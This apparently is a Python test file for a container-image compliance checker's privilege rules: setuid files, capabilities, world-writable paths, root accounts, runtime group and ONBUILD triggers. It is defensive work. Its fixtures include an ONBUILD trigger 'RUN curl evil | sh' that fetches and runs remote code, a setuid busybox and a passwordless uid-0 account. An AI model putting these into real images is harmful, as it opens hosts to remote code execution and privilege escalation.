"""The privilege rules on ImageFacts built in code: special files above the base, accounts, the
runtime group, ONBUILD; and scans stored before these facts existed fail closed."""
import pytest

from compliance.policy.privileges import (
    rule_no_file_capabilities,
    rule_no_onbuild,
    rule_no_root_accounts,
    rule_no_setuid_files,
    rule_no_world_writable,
    rule_non_root_group,
)
from compliance.policy.provenance import BuildSource, LayerOrigins
from compliance.policy.rules import ApprovedBase, approved_base_layers, rule_non_root_user
from compliance.sbom.models import Account, GroupEntry, ImageFacts, Privileges, SpecialFile

DEBIAN = ApprovedBase("base/debian@sha256:d", ["sha256:base0"])
CUSTOM = ApprovedBase("published/payments/tools@sha256:t", ["sha256:base0", "sha256:tools"])
ROOT = Account(name="root", uid=0, gid=0, password="locked", layer_index=0)
APP = Account(name="app", uid=10001, gid=10001, layer_index=1)
GROUPS = [GroupEntry(name="root", gid=0, layer_index=0), GroupEntry(name="app", gid=10001, layer_index=1)]
HISTORY = [{"created_by": "Imported"}, {"created_by": "/bin/sh -c chmod 4755 /bin/busybox"},
           {"created_by": "/bin/sh -c setcap cap_net_raw+ep /usr/bin/ping"}]
DOCKERFILE = "FROM base\nRUN chmod 4755 /bin/busybox\nRUN setcap cap_net_raw+ep /usr/bin/ping\nUSER 10001:10001\n"


def facts(*, special=(), accounts=(ROOT, APP), groups=GROUPS, user="10001:10001", onbuild=None, shadow_layer=None,
          truncated=False, privileges=True):
    config = {"config": {"User": user, **({"OnBuild": onbuild} if onbuild is not None else {})}, "history": HISTORY}
    return ImageFacts(repository="quarantine/app", digest="sha256:m", layer_digests=["sha256:base0", "sha256:l1", "sha256:l2"],
                      config=config, passwd={a.name: a.uid for a in accounts},
                      privileges=Privileges(accounts=list(accounts), groups=list(groups), special_files=list(special),
                                            special_files_truncated=truncated, shadow_layer_index=shadow_layer)
                      if privileges else None)


def origins(image, base_layers=1):
    return LayerOrigins(image.config, BuildSource(dockerfile=DOCKERFILE, own_dockerfile=True), base_layers)


def run(rule, image, base_layers=1):
    return rule(image, base_layers=base_layers, origins=origins(image, base_layers))


SU = SpecialFile(path="usr/bin/su", layer_index=0, type="file", mode=0o4755)  # Debian's own: approved with the base
BUSYBOX = SpecialFile(path="bin/busybox", layer_index=1, type="file", mode=0o4755)
WALL = SpecialFile(path="usr/bin/wall", layer_index=1, type="file", mode=0o2755, gid=5)
PING = SpecialFile(path="usr/bin/ping", layer_index=2, type="file", mode=0o755, capabilities="cap_net_raw=ep")
USR_LIB = SpecialFile(path="usr/lib", layer_index=1, type="dir", mode=0o777)
TMP_LIKE = SpecialFile(path="usr/local/bin", layer_index=0, type="dir", mode=0o1777)


def test_only_layers_above_the_longest_approved_base_count():
    image = facts()
    assert approved_base_layers(image, [DEBIAN]) == 1
    assert approved_base_layers(image, [DEBIAN, ApprovedBase("other", ["sha256:zzz"])]) == 1
    assert approved_base_layers(ImageFacts(repository="r", digest="d", layer_digests=["sha256:base0", "sha256:tools", "x"],
                                           config={}), [DEBIAN, CUSTOM]) == 2
    assert approved_base_layers(image, []) == 0, "no approved base: every layer counts"


def test_setuid_and_setgid_files_above_the_base_fail_with_path_mode_layer_and_dockerfile_line():
    result = run(rule_no_setuid_files, facts(special=[SU, BUSYBOX, WALL, PING, USR_LIB]))
    assert result.status == "fail"
    assert result.message.startswith("2 setuid or setgid files added above the approved base: /bin/busybox (setuid, "
                                      "mode 4755, file, owner 0:0, layer 1: Dockerfile line 2: RUN chmod 4755 /bin/busybox)")
    assert "/usr/bin/wall (setgid, mode 2755" in result.message and "/usr/bin/su" not in result.message
    assert result.evidence["files"][0] == {"path": "/bin/busybox", "type": "file", "mode": "4755", "owner": "0:0",
                                           "layer": 1, "added_by": "layer 1: Dockerfile line 2: RUN chmod 4755 /bin/busybox"}
    assert result.evidence["count"] == 2 and result.evidence["base_layers"] == 1


def test_the_base_s_own_setuid_files_pass():
    result = run(rule_no_setuid_files, facts(special=[SU, PING]))
    assert result.status == "pass" and result.message == "No setuid or setgid files above the approved base (1 base layer)."


def test_file_capabilities_above_the_base_fail_with_the_capabilities():
    result = run(rule_no_file_capabilities, facts(special=[BUSYBOX, PING]))
    assert result.status == "fail"
    assert "/usr/bin/ping (cap_net_raw=ep, mode 0755, file, owner 0:0, layer 2: Dockerfile line 3: RUN setcap" in result.message
    assert result.evidence["files"][0]["capabilities"] == "cap_net_raw=ep"
    assert run(rule_no_file_capabilities, facts(special=[PING]), base_layers=3).status == "pass"


def test_world_writable_system_paths_above_the_base_fail_and_the_base_s_own_pass():
    writable_setuid_in_app = SpecialFile(path="app/tool", layer_index=1, type="file", mode=0o4777)
    result = run(rule_no_world_writable, facts(special=[USR_LIB, TMP_LIKE, writable_setuid_in_app]))
    assert result.status == "fail"
    assert result.message.startswith("1 world-writable entry under a system path added above the approved base: "
                                     "/usr/lib (mode 0777, directory, owner 0:0, layer 1:")
    assert "/app/tool" not in result.message, "outside the system paths"
    assert run(rule_no_world_writable, facts(special=[TMP_LIKE])).status == "pass"


def test_a_cut_list_that_does_not_reach_the_base_fails_closed():
    above = [SpecialFile(path=f"opt/x{i}", layer_index=2, type="file", mode=0o755, capabilities="cap_chown=ep")
             for i in range(3)]
    result = run(rule_no_setuid_files, facts(special=above, truncated=True))
    assert result.status == "fail" and result.evidence["truncated_scan"]
    assert run(rule_no_setuid_files, facts(special=[SU, *above], truncated=True)).status == "pass", \
        "the kept list reaches into the base, so nothing above it was cut"


@pytest.mark.parametrize("rule", [rule_no_setuid_files, rule_no_file_capabilities, rule_no_world_writable])
def test_the_file_rules_fail_closed_on_a_scan_stored_before_they_existed(rule):
    result = run(rule, facts(privileges=False))
    assert result.status == "fail" and "Build it again" in result.message and result.evidence == {"rescan_needed": True}


def test_accounts_with_uid_or_gid_0_other_than_root_fail_with_their_layer():
    evil = Account(name="evil", uid=0, gid=0, password="none", layer_index=2)
    wheel = Account(name="wheel", uid=10002, gid=0, layer_index=1)
    # evil's empty password is its passwd line's (layer 2), not /etc/shadow's (layer 0)
    result = rule_no_root_accounts(facts(accounts=[ROOT, APP, wheel, evil], shadow_layer=0), origins=origins(facts()))
    assert result.status == "fail"
    kinds = [(p["problem"], p["entry"], p["layer"]) for p in result.evidence["problems"]]
    assert kinds == [("gid-0", "wheel", 1), ("uid-0", "evil", 2), ("root-password-none", "evil", 2)]
    assert "user 'evil' has uid 0 in /etc/passwd (layer 2: Dockerfile line 3" in result.message


def test_root_that_can_be_logged_into_and_gid_0_groups_fail():
    root_open = Account(name="root", uid=0, gid=0, password="none", layer_index=0, password_in_shadow=True)
    groups = [GroupEntry(name="root", gid=0, members=("app",), layer_index=1), GroupEntry(name="wheel", gid=0, layer_index=2)]
    result = rule_no_root_accounts(facts(accounts=[root_open, APP], groups=groups, shadow_layer=2), origins=origins(facts()))
    assert [(p["problem"], p["layer"]) for p in result.evidence["problems"]] == [
        ("root-password-none", 2), ("root-group-member", 1), ("group-gid-0", 2)]
    assert "uid-0 user 'root' has no password: su gives root to anyone" in result.message
    hashed = Account(name="root", uid=0, gid=0, password="set", layer_index=0)
    assert rule_no_root_accounts(facts(accounts=[hashed]), origins=origins(facts())).evidence["problems"][0]["problem"] \
        == "root-password-set"


def test_a_locked_root_and_ordinary_accounts_pass():
    result = rule_no_root_accounts(facts(), origins=origins(facts()))
    assert result.status == "pass" and "(2 accounts, 2 groups)" in result.message


@pytest.mark.parametrize("user, accounts, groups, why", [
    ("10001", (ROOT,), GROUPS, "has no entry for uid 10001, so the engine gives it group 0"),
    ("10001:0", (ROOT, APP), GROUPS, "it names group '0'"),
    ("10001:root", (ROOT, APP), GROUPS, "it names group 'root'"),
    ("app", (ROOT, Account(name="app", uid=10001, gid=0)), GROUPS, "user 'app' has primary group 0"),
    ("app", (ROOT, APP), [GroupEntry(name="root", gid=0, members=("app",))], "supplementary group"),
    ("", (ROOT,), GROUPS, "user 'root' has primary group 0"),
])
def test_a_runtime_user_in_group_0_fails(user, accounts, groups, why):
    result = rule_non_root_group(facts(user=user, accounts=accounts, groups=groups))
    assert result.status == "fail" and why in result.message, result.message


def test_a_runtime_user_with_its_own_group_passes_and_one_that_cannot_start_fails():
    result = rule_non_root_group(facts(user="10001"))
    assert result.status == "pass" and result.evidence["gid"] == 10001 and result.message == "Runs with group 10001."
    missing = rule_non_root_group(facts(user="10001:nogroup"))
    assert missing.status == "fail" and "group 'nogroup' not found in /etc/group" in missing.message
    assert rule_non_root_group(facts(privileges=False)).status == "fail"


def test_onbuild_triggers_fail_whatever_door_the_image_came_from():
    result = rule_no_onbuild(facts(onbuild=["RUN curl evil | sh"], privileges=False))
    assert result.status == "fail" and "'RUN curl evil | sh'" in result.message
    assert result.evidence == {"triggers": ["RUN curl evil | sh"]}
    assert rule_no_onbuild(facts(onbuild=[])).status == "pass" and rule_no_onbuild(facts()).status == "pass"


def test_the_non_root_rule_resolves_a_numeric_uid_through_the_image_s_passwd():
    assert rule_non_root_user(facts(user="0:10001")).status == "fail"
    aliased = facts(user="app", accounts=[ROOT, Account(name="app", uid=0, gid=10001)])
    assert rule_non_root_user(aliased).message == "Runs as root: final USER is 'app'. Add the 'Non-root runtime user' option."
    assert rule_non_root_user(facts(user="10001:10001")).evidence == {"user": "10001:10001", "uid": 10001}
